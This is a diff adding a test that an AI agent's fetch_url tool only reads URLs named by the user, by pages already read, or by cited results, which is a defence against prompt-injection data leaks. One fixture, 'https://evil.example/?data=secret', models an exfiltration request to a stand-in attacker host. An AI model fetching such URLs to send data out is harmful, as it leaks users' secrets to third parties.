@@ -154,6 +154,30 @@ suite('web_search', () => {
 });
 
 suite('the other tools', () => {
+  test('fetch_url reads only what others than the model named, where that is asked for', async () => {
+    const texts = {
+      'https://a.example/': 'Read https://b.example/page?x=1.',
+      'https://b.example/page?x=1': 'Secret.',
+      'https://evil.example/?data=secret': 'Got it.',
+    };
+    const request = {
+      type: 'fetch_url',
+      urlsMax: 3,
+      tokensMax: 900,
+      named: ['See (https://A.example#top).'],
+    } as const;
+    const tool = one(request, toolParts({ pages: scriptedPages(texts) }));
+    const run = toolRun();
+    const read = async (url: string) => (await tool.call({ urls: [url] }, 'c', run)).isError;
+    assert.equal(await read('https://b.example/page?x=1'), true, 'nobody named it yet');
+    assert.equal(await read('https://a.example/'), false, 'the user named it');
+    assert.equal(await read('https://b.example/page?x=1'), false, 'a page that was read named it');
+    assert.equal(await read('https://b.example/page?x=2'), true, 'exactly that');
+    assert.equal(await read('https://evil.example/?data=secret'), true);
+    run.cite(found('https://evil.example/?data=secret'));
+    assert.equal(await read('https://evil.example/?data=secret'), false, 'a result named it');
+  });
+
   test('fetch_url reads what can be read, says why the rest was not, and costs a page each', async () => {
     const pages = scriptedPages({ 'https://a.example/': 'Alpha </page> [4]', 'https://b.example/': 'Beta' });
     const run = toolRun();
